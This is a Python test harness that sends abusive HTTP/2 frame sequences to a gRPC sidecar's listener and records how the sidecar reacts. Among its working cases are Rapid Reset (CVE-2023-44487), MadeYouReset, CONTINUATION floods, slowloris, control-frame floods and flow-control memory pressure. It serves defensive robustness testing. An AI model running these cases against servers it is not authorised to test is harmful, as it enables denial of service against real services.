"""HTTP/2 abuse against a sidecar's h2c listener, frame by frame (raw frames, `hpack` for
header blocks), reporting what the sidecar did as one JSON line.

Usage: h2_abuse.py HOST:PORT CASE [SIDECAR-PID [CONNECTIONS]]
  rapid-reset         1,000 streams opened and reset at once (CVE-2023-44487)
  made-you-reset      1,000 streams the sidecar itself must reset (a WINDOW_UPDATE of 0 on
                      each), no RST_STREAM from the client (CVE-2025-8671)
  cancels-among-calls 300 calls answered, each followed by a call the client cancels: what an
                      app cancelling by deadline does, not a reset loop
  continuation-flood  one header block in 10,000 tiny CONTINUATION frames, never ended
  big-headers         a 64 KiB header value (the advertised list limit is 16 KiB)
  too-many-streams    1,100 open streams on one connection (1,024 advertised)
  idle                a connection that opens and then sends nothing
  silent-caller       a call left open (its request never ended), then silence: the
                      connection's PINGs go unanswered, as from a caller whose host is gone
  slowloris           a request's HEADERS frame sent one byte every 200 ms
  malformed           requests that RFC 9113 calls malformed (connection-specific headers, te
                      other than trailers, upper-case names, misplaced or unknown
                      pseudo-headers), then a good one with look-alike headers, on one connection
  unread-streams      CONNECTIONS connections (8) that open their windows wide, each ask for
                      8 server streams of 64 MiB and never read the socket, held 2 s
  zero-window         8 calls for 64 MiB server streams on one connection that reads its socket
                      but keeps every stream window at 0, held 2 s
  ping-flood          PINGs sent as fast as the socket takes them, ACKs never read, for 2 s
  settings-flood      the same with empty SETTINGS frames
  empty-data          a request stream sent 1,000 empty and padding-only DATA frames
  bad-fields          requests whose fields RFC 9113 §8.2 calls malformed (names with a space,
                      a colon, upper case; values with CR, LF, NUL or white space at an end;
                      trailers with a pseudo-header or a connection-specific header;
                      content-length against the DATA), then a good one on the same connection
  window-overflow     SETTINGS_INITIAL_WINDOW_SIZE that takes an open stream's window past
                      2^31-1 — at a value on the way, not the frame's last
  settings-storm      300 SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE entries over 1,000 open
                      streams, while a well-behaved caller calls on another connection
  priority            PRIORITY on a stream depending on itself, then PRIORITY on stream 0
  closed-streams      DATA after the client's own RST_STREAM; DATA on a stream the sidecar
                      reset, sent before and after the client acknowledged the sidecar's PING
  then-healthy        (after any case) a normal call on a new connection

  no-preface          a connection that sends nothing at all
  slow-preface        the client preface sent one byte every 100 ms
  not-grpc            a request whose content-type is text/plain
  no-authority        a gRPC request without :authority

With H2_ABUSE_CERT, H2_ABUSE_KEY and H2_ABUSE_CA set, every connection is mutual TLS 1.3 with
that client certificate (a sidecar's inbound listener); otherwise h2c.

The app behind is transparency.py's test service (t.T), or with H2_ABUSE_APP=relay the
grpc-swift relay-service (trellis.demo.v1.Relay: Hop for unary calls, Stream for server
streams).

The held cases report the sidecar's RSS (from /proc, before and at most during the hold) and
the calls a well-behaved caller made on another connection before and during the hold: how
many were answered OK, and their p50 and p99.
"""
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def message(payload):
    """One gRPC length-prefixed message."""
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


def varint(value):
    out = b""
    while True:
        byte, value = value & 0x7F, value >> 7
        out += bytes([byte | (0x80 if value else 0)])
        if not value:
            return out


if os.environ.get("H2_ABUSE_APP") == "relay":
    # HopRequest{payload: "ok"}; a Hop whose request is left open waits for its message.
    UNARY = SLOW = "/trellis.demo.v1.Relay/Hop"
    BODY, SERVER_STREAM = message(b"\x1a\x02ok"), "/trellis.demo.v1.Relay/Stream"
    # grpc-swift resets a request that carries trailers (gRPC clients send none).
    REQUEST_TRAILERS = False

    def stream_body(count, size):  # StreamRequest{count, size}
        return message(b"\x08" + varint(count) + b"\x10" + varint(size))
else:
    UNARY, BODY, SLOW, SERVER_STREAM = "/t.T/Unary", message(b"ok"), "/t.T/Slow", "/t.T/ServerStream"
    REQUEST_TRAILERS = True

    def stream_body(count, size):
        return message(count.to_bytes(4, "big") + size.to_bytes(4, "big"))
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
         4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
         11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


class Connection:
    def __init__(self, target, receive_buffer=None):
        host, port = target.rsplit(":", 1)
        if receive_buffer:
            # A small receive buffer: a peer that does not read stops the sender sooner.
            self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
            self.sock.settimeout(10)
            self.sock.connect((host, int(port)))
        else:
            self.sock = socket.create_connection((host, int(port)), timeout=10)
        if os.environ.get("H2_ABUSE_CERT"):
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.minimum_version = ssl.TLSVersion.TLSv1_3
            context.check_hostname = False
            context.load_verify_locations(os.environ["H2_ABUSE_CA"])
            context.load_cert_chain(os.environ["H2_ABUSE_CERT"], os.environ["H2_ABUSE_KEY"])
            context.set_alpn_protocols(["h2"])
            self.sock = context.wrap_socket(self.sock)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.buffer = b""
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def request(self, path, stream, end_stream=True, extra=(), authority="echo",
                content_type="application/grpc"):
        headers = [(":method", "POST"), (":scheme", "http"), (":path", path)]
        if authority:
            headers.append((":authority", authority))
        headers += [("content-type", content_type), ("te", "trailers")] + list(extra)
        flags = END_HEADERS | (END_STREAM if end_stream else 0)
        return frame(HEADERS, flags, stream, self.encoder.encode(headers))

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    def read_frames(self, seconds, until_status=False):
        """Frames received within `seconds` (or until the connection closes, or with
        `until_status` until a grpc-status arrives)."""
        frames, closed = [], False
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if until_status and any(k == HEADERS and "grpc-status" in p for k, _, _, p in frames):
                break
            self.sock.settimeout(max(0.01, end - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                closed = True
                break
            if not chunk:
                closed = True
                break
            self.buffer += chunk
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                payload = self.buffer[9:9 + length]
                self.buffer = self.buffer[9 + length:]
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                if kind == HEADERS:
                    try:
                        payload = dict(self.decoder.decode(payload))
                    except Exception:
                        payload = {}
                frames.append((kind, flags, stream, payload))
        return frames, closed


def summary(frames, closed):
    goaway = [CODES.get(int.from_bytes(p[4:8], "big"), "?") for k, _, _, p in frames if k == GOAWAY]
    resets = {}
    for kind, _, _, payload in frames:
        if kind == RST_STREAM:
            code = CODES.get(int.from_bytes(payload, "big"), "?")
            resets[code] = resets.get(code, 0) + 1
    statuses = {}
    for kind, _, _, payload in frames:
        if kind == HEADERS and "grpc-status" in payload:
            statuses[payload["grpc-status"]] = statuses.get(payload["grpc-status"], 0) + 1
    return {"goaway": goaway, "resets": resets, "grpc_status": statuses, "closed": closed}


def reset_loop(target, ending):
    """1,000 streams, each opened and at once followed by the frame `ending(stream)`."""
    c = Connection(target)
    burst = b""
    for i in range(1000):
        stream = 1 + 2 * i
        burst += c.request(SLOW, stream, end_stream=False) + ending(stream)
    c.send(burst)
    return summary(*c.read_frames(3))


def rapid_reset(target):  # the client resets each stream (CANCEL)
    return reset_loop(target, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


def made_you_reset(target):  # a WINDOW_UPDATE of 0 on each: the sidecar must reset it
    return reset_loop(target, lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))


def cancels_among_calls(target):
    c = Connection(target)
    answered = 0
    for i in range(300):
        call, cancelled = 1 + 4 * i, 3 + 4 * i
        c.send(c.request(UNARY, call, end_stream=False)
               + frame(DATA, END_STREAM, call, BODY)
               + c.request(SLOW, cancelled, end_stream=False)
               + frame(RST_STREAM, 0, cancelled, struct.pack(">I", 8)))
        frames, closed = c.read_frames(5, until_status=True)
        answered += sum(1 for k, _, s, p in frames if k == HEADERS and s == call
                        and p.get("grpc-status") == "0")
        if closed or any(k == GOAWAY for k, _, _, _ in frames):
            result = summary(frames, closed)
            result["answered"] = answered
            return result
    result = summary(*c.read_frames(0.5))
    result["answered"] = answered
    return result


def continuation_flood(target):
    c = Connection(target)
    block = c.encoder.encode([(":method", "POST"), (":scheme", "http"),
                              (":path", UNARY), (":authority", "echo")])
    data = frame(HEADERS, 0, 1, block)
    filler = c.encoder.encode([("x-filler", "a")])
    for _ in range(10000):
        data += frame(CONTINUATION, 0, 1, filler)
    sent = c.send(data)
    result = summary(*c.read_frames(3))
    result["sent all"] = sent
    return result


def big_headers(target):
    c = Connection(target)
    header = c.request(UNARY, 1, extra=[("x-big", "b" * 65536)])
    # Split into CONTINUATION frames of at most 16 KiB (the default frame size).
    block = header[9:]
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    data = frame(HEADERS, END_STREAM if len(chunks) > 1 else END_STREAM | END_HEADERS, 1,
                 chunks[0])
    for index, chunk in enumerate(chunks[1:], start=1):
        data += frame(CONTINUATION, END_HEADERS if index == len(chunks) - 1 else 0, 1, chunk)
    c.send(data)
    return summary(*c.read_frames(3))


def too_many_streams(target):
    c = Connection(target)
    c.read_frames(0.3)  # the sidecar's SETTINGS
    burst = b"".join(c.request(SLOW, 1 + 2 * i, end_stream=False) for i in range(1100))
    c.send(burst)
    return summary(*c.read_frames(3))


def idle(target):
    c = Connection(target)
    start = time.monotonic()
    frames, closed = c.read_frames(10)
    result = summary(frames, closed)
    result["seconds"] = round(time.monotonic() - start, 1)
    return result


def silent_caller(target):
    c = Connection(target)
    start = time.monotonic()
    c.send(c.request(UNARY, 1, end_stream=False))
    frames, closed = c.read_frames(10)
    result = summary(frames, closed)
    result["seconds"] = round(time.monotonic() - start, 1)
    result["pings"] = sum(1 for k, flags, _, _ in frames if k == PING and not flags & ACK)
    return result


def slowloris(target):
    c = Connection(target)
    start = time.monotonic()
    request = c.request(UNARY, 1, end_stream=False)
    frames, closed = [], False
    for byte in request:
        if not c.send(bytes([byte])):
            closed = True
            break
        more, closed = c.read_frames(0.2)
        frames += more
        if closed or time.monotonic() - start > 10:
            break
    result = summary(frames, closed)
    result["seconds"] = round(time.monotonic() - start, 1)
    return result


MALFORMED = [
    [("connection", "keep-alive")], [("keep-alive", "timeout=5")], [("proxy-connection", "x")],
    [("transfer-encoding", "chunked")], [("upgrade", "h2c")], [("te", "gzip")],
    [("X-Upper", "1")], [("x-after", "1"), (":status", "200")],
]


def malformed(target):
    """Each malformed request is a stream error; then a request whose headers have the same
    lengths as the refused names, but are allowed, is answered on the same connection."""
    c = Connection(target)
    burst = b""
    for i, extra in enumerate(MALFORMED):
        burst += c.request(UNARY, 1 + 2 * i, end_stream=True, extra=extra)
    good = 1 + 2 * len(MALFORMED)
    look_alike = [("ab", "1"), ("upgrad", "1"), ("user-agent", "h2-abuse"), ("tee", "gzip"),
                  ("x-proxy-connect1", "1"), ("transfer-encodin2", "1")]
    burst += c.request(UNARY, good, end_stream=False, extra=look_alike)
    burst += frame(DATA, END_STREAM, good, BODY)
    return send_and_sort(c, burst)


def send_and_sort(c, burst):
    """Sends `burst` and reads until a grpc-status: which streams were reset, which answered."""
    c.send(burst)
    frames, closed = c.read_frames(20, until_status=True)
    result = summary(frames, closed)
    result["reset_streams"] = sorted(s for k, _, s, _ in frames if k == RST_STREAM)
    result["answered_streams"] = sorted(
        s for k, _, s, p in frames if k == HEADERS and "grpc-status" in p)
    return result


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def percentile(values, fraction):
    if not values:
        return None
    ordered = sorted(values)
    return round(ordered[min(len(ordered) - 1, int(fraction * len(ordered)))], 2)


class Prober(threading.Thread):
    """A well-behaved caller: unary calls one after another on a connection of its own,
    each timed until its grpc-status."""

    def __init__(self, target):
        super().__init__(daemon=True)
        self.target, self.stop, self.phase = target, threading.Event(), "before"
        self.calls = {"before": [], "during": []}

    def run(self):
        c, stream = Connection(self.target), 1
        while not self.stop.is_set():
            phase, start = self.phase, time.monotonic()
            c.send(c.request(UNARY, stream, end_stream=False)
                   + frame(DATA, END_STREAM, stream, BODY))
            frames, closed = c.read_frames(10, until_status=True)
            ok = any(k == HEADERS and s == stream and p.get("grpc-status") == "0"
                     for k, _, s, p in frames)
            self.calls[phase].append((ok, (time.monotonic() - start) * 1000))
            if closed:
                c = Connection(self.target)
                stream = -1
            stream += 2
            time.sleep(0.02)

    def report(self):
        result = {}
        for phase, calls in self.calls.items():
            times = [ms for ok, ms in calls if ok]
            result[phase] = {"ok": len(times), "failed": len(calls) - len(times),
                             "p50_ms": percentile(times, 0.5), "p99_ms": percentile(times, 0.99)}
        return result


def stream_request(c, stream, count=1024, size=65536):
    """A ServerStream call for `count` messages of `size` bytes."""
    return (c.request(SERVER_STREAM, stream, end_stream=False)
            + frame(DATA, END_STREAM, stream, stream_body(count, size)))


def held(target, pid, attack, seconds=2):
    """Runs `attack` (which opens what it holds and returns it) for `seconds` while a prober
    calls on another connection and the sidecar's RSS is sampled."""
    prober = Prober(target)
    prober.start()
    time.sleep(1)
    before = rss_kib(pid)
    prober.phase = "during"
    kept = attack()
    peak, end = before, time.monotonic() + seconds
    while time.monotonic() < end:
        peak = max(peak, rss_kib(pid))
        time.sleep(0.1)
    prober.stop.set()
    prober.join(12)
    result = {"rss_before_kib": before, "rss_peak_kib": peak, "calls": prober.report()}
    for c in kept:
        c.sock.close()
    return result


WIDE = 2**31 - 1


def unread_streams(target, pid, connections):
    def attack():
        opened = []
        for _ in range(connections):
            c = Connection(target, receive_buffer=4096)
            burst = (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, WIDE))
                     + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WIDE - 65535)))
            for i in range(8):
                burst += stream_request(c, 1 + 2 * i)
            c.send(burst)
            opened.append(c)
        return opened
    return held(target, pid, attack)


def zero_window(target, pid):
    stop = threading.Event()

    def attack():
        c = Connection(target)
        burst = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
        for i in range(8):
            burst += stream_request(c, 1 + 2 * i)
        c.send(burst)

        def read():  # reads (and ACKs) everything, and never opens a stream window
            while not stop.is_set():
                _, closed = c.read_frames(0.2)
                if closed:
                    break
        threading.Thread(target=read, daemon=True).start()
        return [c]
    result = held(target, pid, attack)
    stop.set()
    return result


def control_flood(target, pid, kind):
    """Floods from a thread for as long as the hold lasts; reports how much the sidecar took
    (a sidecar that stops reading takes little more than the socket buffers hold)."""
    sent = {"bytes": 0, "closed_after_s": None}

    def attack():
        c = Connection(target, receive_buffer=4096)
        c.sock.settimeout(0.05)
        one = frame(PING, 0, 0, b"12345678") if kind == "ping" else frame(SETTINGS, 0, 0)
        burst, start = one * 1000, time.monotonic()

        def flood():
            while True:
                try:
                    sent["bytes"] += c.sock.send(burst)
                except socket.timeout:
                    continue
                except OSError:  # the sidecar closed the connection
                    sent["closed_after_s"] = round(time.monotonic() - start, 2)
                    break
        threading.Thread(target=flood, daemon=True).start()
        return [c]
    result = held(target, pid, attack)
    result["sent_kib"] = sent["bytes"] // 1024
    result["closed_after_s"] = sent["closed_after_s"]
    return result


def empty_data(target):
    c = Connection(target)
    burst = c.request(UNARY, 1, end_stream=False)
    for i in range(1000):
        if i % 2:
            burst += frame(DATA, 0x8, 1, b"\x04" + b"\x00" * 4)  # PADDED: only padding
        else:
            burst += frame(DATA, 0, 1)
    c.send(burst)
    return summary(*c.read_frames(3))


BAD_HEADERS = [[("x y", "1")], [("x:y", "1")], [("x-a", "a\rb")], [("x-a", "a\nb")],
               [("x-a", "a\x00b")], [("x-a", " a")], [("x-a", "a ")]]
BAD_TRAILERS = [[(":path", "/x")], [("connection", "close")], [("X-Upper", "1")]]


def bad_fields(target):
    """Each bad request is a stream error (reset) and the connection serves on."""
    c = Connection(target)
    body = BODY
    burst, stream = b"", 1
    for extra in BAD_HEADERS:
        burst += c.request(UNARY, stream, end_stream=False, extra=extra)
        burst += frame(DATA, END_STREAM, stream, body)
        stream += 2
    for extra in BAD_TRAILERS:
        burst += c.request(UNARY, stream, end_stream=False)
        burst += frame(DATA, 0, stream, body)
        burst += frame(HEADERS, END_STREAM | END_HEADERS, stream, c.encoder.encode(extra))
        stream += 2
    for declared in ("3", "20"):  # fewer and more DATA bytes than declared
        burst += c.request(UNARY, stream, end_stream=False,
                           extra=[("content-length", declared)])
        burst += frame(DATA, END_STREAM, stream, body)
        stream += 2
    good = stream
    burst += c.request(UNARY, good, end_stream=False,
                       extra=[("content-length", str(len(body)))])
    if REQUEST_TRAILERS:
        burst += frame(DATA, 0, good, body)
        burst += frame(HEADERS, END_STREAM | END_HEADERS, good, c.encoder.encode([("x-t", "fine")]))
    else:
        burst += frame(DATA, END_STREAM, good, body)
    return send_and_sort(c, burst)


def closed_streams(target):
    """DATA after the client's own RST_STREAM is a stream error (STREAM_CLOSED). DATA on a stream
    the sidecar reset is dropped while it may have been in flight, and is a connection error
    once the client has acknowledged the PING the sidecar sent after the reset."""
    c = Connection(target)
    c.read_frames(0.3)
    c.send(c.request(SLOW, 1, end_stream=False) + frame(RST_STREAM, 0, 1, struct.pack(">I", 8))
           + frame(DATA, 0, 1, BODY))
    after_own_reset = summary(*c.read_frames(1))
    c.send(c.request(SLOW, 3, end_stream=False) + frame(WINDOW_UPDATE, 0, 3, struct.pack(">I", 0))
           + frame(DATA, 0, 3, BODY))
    frames, closed = c.read_frames(1)
    pings = [p for k, f, _, p in frames if k == PING and not f & ACK]
    for payload in pings:
        c.send(frame(PING, ACK, 0, payload))
    c.send(frame(DATA, 0, 3, BODY))
    return {"after_own_reset": after_own_reset, "in_flight": summary(frames, closed),
            "pings": len(pings), "after_ack": summary(*c.read_frames(2))}


def window_overflow(target):
    """A stream's window at exactly 2^31-1; then SETTINGS whose first INITIAL_WINDOW_SIZE
    raises it by one and whose second sets it back."""
    c = Connection(target)
    c.read_frames(0.3)
    burst = c.request(SLOW, 1, end_stream=False)
    burst += frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", WIDE - 65535))
    burst += frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65536) + struct.pack(">HI", 4, 65535))
    c.send(burst)
    return summary(*c.read_frames(3))


def settings_storm(target, pid):
    def attack():
        c = Connection(target)
        c.read_frames(0.3)
        opened = b"".join(c.request(SLOW, 1 + 2 * i, end_stream=False)
                          for i in range(1000))
        c.send(opened)
        entries = b"".join(struct.pack(">HI", 4, 65535 + (i % 2)) for i in range(2730))
        c.send(frame(SETTINGS, 0, 0, entries) * 300)
        return [c]
    return held(target, pid, attack)


def priority(target):
    c = Connection(target)
    c.read_frames(0.3)
    c.send(c.request(SLOW, 1, end_stream=False)
           + frame(2, 0, 1, struct.pack(">IB", 1, 16)))  # PRIORITY: stream 1 depends on 1
    first = summary(*c.read_frames(1))
    c.send(frame(2, 0, 0, struct.pack(">IB", 1, 16)))  # PRIORITY on stream 0
    second = summary(*c.read_frames(2))
    return {"self_dependency": first, "stream_zero": second}


def until_closed(sock, trickle=b"", every=0.1, limit=15):
    """Seconds until the sidecar closes `sock`, sending `trickle` a byte at a time meanwhile."""
    start = time.monotonic()
    sock.settimeout(every)
    for byte in trickle:
        try:
            sock.sendall(bytes([byte]))
            if sock.recv(65536) == b"":
                return round(time.monotonic() - start, 2)
        except socket.timeout:
            continue
        except OSError:
            return round(time.monotonic() - start, 2)
    while time.monotonic() - start < limit:
        try:
            if sock.recv(65536) == b"":
                break
        except socket.timeout:
            continue
        except OSError:
            break
    return round(time.monotonic() - start, 2)


def opened(target):
    """A connection that has said nothing yet: TCP, or (with a client certificate in the
    environment) TLS with its handshake done."""
    host, port = target.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)))
    if os.environ.get("H2_ABUSE_CERT"):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.load_verify_locations(os.environ["H2_ABUSE_CA"])
        context.load_cert_chain(os.environ["H2_ABUSE_CERT"], os.environ["H2_ABUSE_KEY"])
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(sock)
    return sock


def no_preface(target):
    return {"closed_after_s": until_closed(opened(target))}


def slow_preface(target):
    return {"closed_after_s": until_closed(opened(target), trickle=PREFACE + frame(SETTINGS, 0, 0))}


def not_grpc(target):
    c = Connection(target)
    c.send(c.request(UNARY, 1, end_stream=False, content_type="text/plain")
           + frame(DATA, END_STREAM, 1, b"hello"))
    frames, closed = c.read_frames(5, until_status=True)
    result = summary(frames, closed)
    result["http_status"] = [p.get(":status") for k, _, _, p in frames if k == HEADERS]
    return result


def no_authority(target):
    c = Connection(target)
    c.send(c.request(UNARY, 1, end_stream=False, authority=None)
           + frame(DATA, END_STREAM, 1, BODY))
    frames, closed = c.read_frames(10, until_status=True)
    result = summary(frames, closed)
    result["grpc_message"] = [p.get("grpc-message") for k, _, _, p in frames
                              if k == HEADERS and "grpc-message" in p]
    return result


def then_healthy(target):
    c = Connection(target)
    c.send(c.request(UNARY, 1, end_stream=False)
           + frame(DATA, END_STREAM, 1, BODY))
    return summary(*c.read_frames(20, until_status=True))


CASES = {"rapid-reset": rapid_reset, "made-you-reset": made_you_reset,
         "cancels-among-calls": cancels_among_calls, "continuation-flood": continuation_flood,
         "big-headers": big_headers, "too-many-streams": too_many_streams, "idle": idle,
         "silent-caller": silent_caller,
         "slowloris": slowloris, "malformed": malformed, "empty-data": empty_data,
         "bad-fields": bad_fields, "window-overflow": window_overflow, "priority": priority,
         "closed-streams": closed_streams,
         "not-grpc": not_grpc, "no-authority": no_authority, "no-preface": no_preface,
         "slow-preface": slow_preface,
         "then-healthy": then_healthy}
HELD = {"unread-streams": lambda t, pid, n: unread_streams(t, pid, n),
        "zero-window": lambda t, pid, n: zero_window(t, pid),
        "settings-storm": lambda t, pid, n: settings_storm(t, pid),
        "ping-flood": lambda t, pid, n: control_flood(t, pid, "ping"),
        "settings-flood": lambda t, pid, n: control_flood(t, pid, "settings")}

if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[2] in CASES:
        print(json.dumps(CASES[sys.argv[2]](sys.argv[1])), flush=True)
    elif len(sys.argv) in (4, 5) and sys.argv[2] in HELD:
        count = int(sys.argv[4]) if len(sys.argv) == 5 else 8
        print(json.dumps(HELD[sys.argv[2]](sys.argv[1], int(sys.argv[3]), count)), flush=True)
    else:
        sys.exit(__doc__)
